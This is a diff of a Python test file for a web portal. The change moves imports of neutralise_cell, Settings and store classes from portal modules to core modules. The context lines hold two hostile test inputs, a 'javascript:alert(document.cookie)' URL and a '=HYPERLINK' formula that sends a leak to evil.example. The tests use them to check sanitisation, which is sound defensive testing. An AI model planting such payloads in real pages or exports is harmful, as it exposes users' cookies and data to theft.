@@ -18,8 +18,8 @@ from typing import Any
 import pyoxigraph as ox
 import pytest
 
+from core.tables import neutralise_cell
 from portal.safeweb import CONTENT_SECURITY_POLICY, link, safe_url
-from portal.tables import neutralise_cell
 
 HOSTILE_HOMEPAGE = "javascript:alert(document.cookie)"
 HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?leak","Click")'
@@ -91,9 +91,9 @@ def hostile_store(
 ) -> Iterator[Any]:
     """A copy of the loaded store with a ``javascript:`` homepage and a formula label written
     into the curated graph of one initiative."""
+    from core.config import Settings
+    from core.store import KiemenStore, graph_iri
     from loaders import rebuild_indexes
-    from portal.config import Settings
-    from portal.store import KiemenStore, graph_iri
 
     path = tmp_path_factory.mktemp("hostile") / "kiemen.oxigraph"
     shutil.copytree(
